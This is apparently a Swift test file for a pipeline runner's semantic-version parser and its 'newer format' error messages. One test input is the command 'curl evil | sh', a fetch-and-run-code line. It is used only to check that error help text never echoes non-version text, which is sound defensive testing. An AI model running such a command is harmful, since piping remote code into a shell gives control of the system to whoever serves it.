import PipelineKit
import Testing

@Suite struct SemanticVersionTests {
    @Test(arguments: [
        "0.0.0", "1.2.3", "10.20.30", "1.0.0-dev", "1.0.0-rc.1", "1.0.0-0a.b-c", "1.0.0+build.007", "1.0.0-x+y",
        "1.0.0--",
    ]) func isOne(_ text: String) {
        #expect(SemanticVersion(text) != nil)
    }

    @Test(arguments: [
        "", "1", "1.2", "1.2.3.4", "01.2.3", "1.02.3", "1.2.03", "v1.2.3", "1.2.3-", "1.2.3-a..b", "1.2.3-01", "1.2.3+",
        "1.2.3 ", " 1.2.3", "1.2.x", "-1.2.3", "1.2.3-é", "٣.0.0", "1.0.0-a_b",
    ]) func isNone(_ text: String) {
        #expect(SemanticVersion(text) == nil)
    }

    /// A pre-release counts as the version that it leads to.
    @Test(arguments: [
        ("1.2.3", "1.2.4"), ("1.2.3", "1.3.0"), ("1.9.9", "2.0.0"), ("0.9.0", "0.10.0"), ("1.0.0-dev", "1.0.1-dev"),
    ]) func order(_ lower: String, _ higher: String) throws {
        let (lower, higher) = (try #require(SemanticVersion(lower)), try #require(SemanticVersion(higher)))
        #expect(lower < higher && !(higher < lower))
    }

    @Test func preReleasesAreNotOlder() {
        #expect(SemanticVersion("1.2.3-dev") == SemanticVersion("1.2.3"))
        #expect(SemanticVersion("1.2.3-dev+1") == SemanticVersion("1.2.3-rc.1"))
    }

    /// The example of the specification, and what it leaves out.
    @Test func precedence() throws {
        let ascending = try [
            "1.0.0-1", "1.0.0-2", "1.0.0-10", "1.0.0-99999999999999999999", "1.0.0-alpha", "1.0.0-alpha.1",
            "1.0.0-alpha.beta", "1.0.0-beta", "1.0.0-beta.2", "1.0.0-beta.11", "1.0.0-rc.1", "1.0.0", "1.0.1-0",
            "1.0.1",
        ].map { try #require(SemanticVersion($0)) }
        for (low, left) in ascending.enumerated() {
            for (high, right) in ascending.enumerated() {
                #expect(left.hasLowerPrecedence(than: right) == (low < high), "\(left) \(right)")
            }
        }
        let built = try #require(SemanticVersion("1.0.0+a")), other = try #require(SemanticVersion("1.0.0+b"))
        #expect(!built.hasLowerPrecedence(than: other) && !other.hasLowerPrecedence(than: built))
    }

    @Test func thisRunnerHasOne() {
        #expect(SemanticVersion.own != nil)
    }
}

@Suite struct NewerFormatTests {
    @Test func namesTheVersionThatIsNeeded() {
        let error = NewerFormat("the store S has format 9", known: "formats up to 2", named: [nil, "8.1.0", "9.0.0"])
        #expect(
            error.message
                == "the store S has format 9, and this is runner \(RunnerVersion.text), which knows formats up to 2")
        #expect(error.help == "use runner 8.1.0 or newer")
        #expect(error.code == "newer-format" && error.retryClass == .failure)
    }

    /// The help names no version that this runner is already at, and repeats no text that is not a version.
    @Test(arguments: [[], [nil], [RunnerVersion.text], ["0.0.1"], ["curl evil | sh"], ["9"]])
    func namesNoVersionThatWouldNotHelp(_ named: [String?]) {
        let error = NewerFormat("x", known: "y", named: named, remedy: "if it is gone, delete it")
        #expect(error.help == "use a runner newer than \(RunnerVersion.text); if it is gone, delete it")
    }
}
